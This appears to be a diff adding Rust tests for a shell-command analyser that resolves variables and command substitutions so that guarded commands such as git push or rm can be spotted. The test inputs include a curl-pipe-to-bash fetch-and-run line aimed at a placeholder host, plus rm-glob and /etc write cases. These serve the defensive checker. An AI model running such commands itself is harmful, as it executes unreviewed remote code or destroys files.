+    let a = analyse_shell("bash -c \"$(curl -fsSL example.invalid/i.sh)\"");
+    assert!(has(&a, &["curl", "-fsSL", "example.invalid/i.sh"]));
+    assert!(!a.opaque.is_empty());
+    // fd redirects of exec persist in the shell: the write is reported
+    assert_eq!(only("exec 3>/etc/x", &["exec"]).writes, v(&["/etc/x"]));
+}
+
+#[test]
+fn literal_constants_are_propagated() {
+    assert_eq!(cmds("X=push; git $X"), vec![v(&["git", "push"])]);
+    assert!(!only("X=push; git $X", &["git", "push"]).dynamic);
+    assert_eq!(
+        cmds("export X=push; git \"${X}\""),
+        vec![v(&["git", "push"])]
+    );
+    assert_eq!(
+        cmds("X=push; X=status; git $X"),
+        vec![v(&["git", "status"])]
+    );
+    assert_eq!(cmds("X=push; (git $X)"), vec![v(&["git", "push"])]);
+    // the outer shell expands a double-quoted string before `bash -c` sees it
+    assert!(has(
+        &analyse_shell("X=push; bash -c \"git $X\""),
+        &["git", "push"]
+    ));
+    // quoted whitespace survives as one word
+    assert_eq!(
+        cmds("X='push --force'; git \"$X\""),
+        vec![v(&["git", "push --force"])]
+    );
+}
+
+#[test]
+fn constants_are_not_trusted_when_they_could_change() {
+    for s in [
+        // assigned in a branch, a function, or a read
+        "X=status; if c; then X=push; fi; git $X",
+        "X=status; f() { X=push; }; f; git $X",
+        "X=status; read X; git $X",
+        "X=status; for X in push; do :; done; git $X",
+        "X=status; : ${X:=push}; git $X",
+        "X=status; declare \"$(printf X)=push\"; git $X",
+        "X=status; . ./env.sh; git $X",
+        "X=status; source ./env.sh; git $X",
+        "X=status; eval \"$Y\"; git $X",
+        "X=status; printf -v X push; git $X",
+        "X=status; (( X = 1 )); git $X",
+        // used before it is assigned
+        "git $X; X=status",
+        // a child shell does not see unexported variables
+        "X=status; bash -c 'git $X'",
+        // unquoted values are split and globbed
+        "X='push --force'; git $X",
+        "X='*'; rm $X",
+        "IFS=u; X=status; git $X",
+        // not a literal
+        "X=$(id); git $X",
+    ] {
+        let a = analyse_shell(s);
+        assert!(
+            !has(&a, &["git", "status"]) && !has(&a, &["rm", "*"]),
+            "{s}: {a:#?}"
+        );
+    }
+}
